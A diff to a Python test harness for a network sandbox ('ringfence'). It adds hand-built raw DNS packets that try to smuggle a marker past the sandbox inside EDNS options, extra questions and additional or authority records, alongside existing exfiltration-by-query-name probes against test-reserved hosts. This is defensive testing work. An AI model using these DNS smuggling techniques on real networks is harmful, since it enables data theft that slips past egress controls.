@@ -19,7 +19,8 @@ Three runs per user (root, and 65534 through setpriv), each `ringfence run --no-
              at once to allowed.test:9000, port.test:9000. Refused: names not allowed (other.test,
              shared.test, alias.test: a CNAME to an allowed name), exfiltration by query names
              (getaddrinfo of secret-data-HEX.other.test, TXT queries of random names: the
-             fixture's DNS server must never see them), ANY queries (REFUSED), DNS sent straight
+             fixture's DNS server must never see them), data smuggled in queries for the allowed
+             name (an EDNS option, a second question, additional and authority records), ANY queries (REFUSED), DNS sent straight
              to 198.51.100.53:53 (UDP and TCP), direct connects to addresses no allowed name
              resolved to (198.51.100.20, 2001:db8::20, 203.0.113.7), domain fronting on the
              allowed address (SNI or Host other.test or shared.test, which shares allowed.test's
@@ -212,6 +213,38 @@ res["getent exfil"] = run(["getent", "hosts", EXFIL[1]])
 res["raw TXT exfil"] = [raw("query", n, "TXT") for n in EXFIL[2:]]
 res["raw ANY allowed"] = raw("query", "allowed.test", "ANY")
 res["raw ANY other"] = raw("query", "other.test", "ANY")
+# -- data smuggled in queries for the allowed name: an EDNS option, a second question, an
+# additional record; none of it may reach the fixture's server --
+def qname(n):
+    return b"".join(bytes([len(l)]) + l.encode() for l in n.split(".")) + b"\0"
+def dns_raw(msg, tcp=False):
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
+    s.settimeout(5)
+    try:
+        if tcp:
+            s.connect((RESOLVER, 53))
+            s.sendall(len(msg).to_bytes(2, "big") + msg)
+            data = s.recv(65535)[2:]
+        else:
+            s.sendto(msg, (RESOLVER, 53))
+            data = s.recv(65535)
+        return {"rcode": data[3] & 15 if len(data) > 3 else None, "len": len(data)}
+    except OSError as e:
+        return {"errno": e.errno}
+    finally:
+        s.close()
+q1 = qname("allowed.test") + b"\0\1\0\1"
+opt = b"\0\0\x29\x10\0\0\0\0\0" + (4 + len(SMUGGLE)).to_bytes(2, "big") + b"\xfd\xe9" + \
+    len(SMUGGLE).to_bytes(2, "big") + SMUGGLE.encode()
+res["smuggle edns"] = dns_raw(b"\x21\x01\x01\x00\0\1\0\0\0\0\0\1" + q1 + opt)
+res["smuggle edns tcp"] = dns_raw(b"\x21\x02\x01\x00\0\1\0\0\0\0\0\1" + q1 + opt, tcp=True)
+res["smuggle 2 questions"] = dns_raw(b"\x21\x03\x01\x00\0\2\0\0\0\0\0\0" + q1 +
+                                     qname(SMUGGLE + ".other.test") + b"\0\1\0\1")
+txt = SMUGGLE.encode()
+res["smuggle additional"] = dns_raw(b"\x21\x04\x01\x00\0\1\0\0\0\0\0\1" + q1 + qname(SMUGGLE + ".other.test")
+                                    + b"\0\x10\0\1\0\0\0\x3c" + (len(txt) + 1).to_bytes(2, "big") + bytes([len(txt)]) + txt)
+res["smuggle authority"] = dns_raw(b"\x21\x05\x01\x00\0\1\0\0\0\1\0\0" + q1 + qname(SMUGGLE + ".other.test")
+                                   + b"\0\x10\0\1\0\0\0\x3c" + (len(txt) + 1).to_bytes(2, "big") + bytes([len(txt)]) + txt)
 # -- DNS straight to the fixture's server --
 res["direct dns udp"] = raw("query", DIRECT[0], "A", DNS_ADDR)
 res["direct dns tcp"] = raw("query", DIRECT[1], "A", DNS_ADDR, "tcp")
@@ -420,7 +453,7 @@ def fixture_saw(log, kind=None, addr=None, port=None, **match):
     return out
 
 
-def judge_refusals(user, res, log, vlog, failures, exfil, direct):
+def judge_refusals(user, res, log, vlog, failures, exfil, direct, smuggle):
     j = Judge(user, "refusals", failures)
     if f"nameserver {SANDBOX_RESOLVER}" not in res["resolv.conf"] or fxm.DNS_ADDR in res["resolv.conf"]:
         j.bad(f"the sandbox's /etc/resolv.conf does not name {SANDBOX_RESOLVER} alone: {res['resolv.conf']!r}")
@@ -535,6 +568,10 @@ def judge_refusals(user, res, log, vlog, failures, exfil, direct):
     leaked_exfil = [n for n in exfil + direct if any(n.lower() in x for x in names)]
     if leaked_exfil:
         j.bad(f"exfiltration by query name: the fixture's DNS server saw {leaked_exfil}")
+    smuggled = [x for x in fixture_saw(log, "dns") if smuggle.encode().hex() in x.get("raw", "")]
+    if smuggled:
+        j.bad(f"data smuggled in queries for allowed.test (EDNS option, second question, extra records) reached "
+              f"the fixture's DNS server: {[(x['name'], x['type'], x['proto']) for x in smuggled]}")
     anys = fixture_saw(log, "dns", type="ANY")
     if anys:
         j.bad(f"ANY queries reached the fixture's DNS server: {anys}")
@@ -704,10 +741,13 @@ def main():
                      f"{secrets.token_hex(12)}.exfil.example", secrets.token_hex(12),
                      f"{secrets.token_hex(8)}.allowed.test"]
             direct = [f"direct-udp-{tag}.test", f"direct-tcp-{tag}.test", f"direct-fetch-{tag}.test"]
+            smuggle = f"smuggled{secrets.token_hex(10)}"
             consts = (f"PROJECT={project!r}\nSANDBOX_RESOLVER={SANDBOX_RESOLVER!r}\nDNS_ADDR={fxm.DNS_ADDR!r}\n"
                       f"ALLOWED4={fxm.ALLOWED4!r}\nALLOWED6={fxm.ALLOWED6!r}\nOTHER4={fxm.OTHER4!r}\n"
                       f"OTHER6={fxm.OTHER6!r}\nNET4={fxm.NET4!r}\nMETA4={fxm.META4!r}\n"
-                      f"EXFIL={exfil!r}\nDIRECT={direct!r}\n")
+                      f"EXFIL={exfil!r}\nDIRECT={direct!r}\nSMUGGLE={smuggle!r}\n"
+                      # the smuggling probes' resolver; the fixture's own server without a sandbox
+                      f"RESOLVER={fxm.DNS_ADDR if rf is None else SANDBOX_RESOLVER!r}\n")
             for name, body in (("refusals.py", REFUSALS), ("chains.py", CHAINS), ("profile.py", PROFILE)):
                 with open(os.path.join(project, name), "w") as f:
                     f.write(consts + body)
@@ -732,7 +772,7 @@ def main():
                         json.dump({"result": res, "violations": vlog, "fixture": log}, f, indent=1)
                 try:
                     if judge is judge_refusals:
-                        judge(user, res, log, vlog, failures, exfil, direct)
+                        judge(user, res, log, vlog, failures, exfil, direct, smuggle)
                     else:
                         judge(user, res, log, vlog, failures, exfil)
                 except KeyError as e:
